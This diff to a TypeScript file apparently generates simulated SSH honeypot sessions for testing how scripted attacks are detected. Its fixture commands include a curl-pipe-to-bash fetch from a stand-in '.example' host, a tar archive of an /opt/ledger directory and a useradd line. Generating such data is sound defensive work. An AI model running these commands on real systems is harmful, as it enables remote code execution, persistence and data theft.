@@ -264,13 +264,15 @@ const ACTS: Readonly<Record<string, (payload: Payload, happening: Happening, mar
     for (const group of ['a', 'b']) {
       const rare = hash('md5', `${mark} ${group}`)
       const url = `http://${rare}.example/run`
+      // A word that commands are compared by: numbers in them are masked.
+      const word = rare.slice(0, 12).replaceAll(/\d/gu, (digit) => 'ghijklmnop'.charAt(Number(digit)))
       for (let n = 0; n < Number(observation_count); n += 1) {
         const seen = (event: AnyEventType, values: object) => happening.see(happening.address(`${group} ${n}`), [event, values, 'ssh'])
         seen(events.clientHello, { client_version: `SSH-2.0-${rare}`, hassh: rare })
         seen(...guess(`${rare} of a few`, 'success'))
-        // What is the same word for word is a script, and no hand.
-        const own = `less ${'kestrel otter plover quail raven siskin'.split(' ')[n % 6]}.txt`
-        for (const command of [`curl -s ${url} | bash`, `cat /opt/${rare}/ledger.conf`, own])
+        // What is the same word for word is a script, and no hand; a line that only looks at what lies there says nothing of who types it.
+        const own = `touch ${'kestrel otter plover quail raven siskin'.split(' ')[n % 6]}.txt`
+        for (const command of [`curl -s ${url} | bash`, `tar czf /tmp/${word}.tgz /opt/ledger`, `useradd -G ${word} till`, own])
           seen(events.command, { command, mode: 'interactive' })
         seen(events.downloadAttempt, { url, tool: 'curl' })
         seen(events.fileCaptured, { sha256: hash('sha256', rare), size: 4_711, path: '/tmp/run', via: 'scp' })
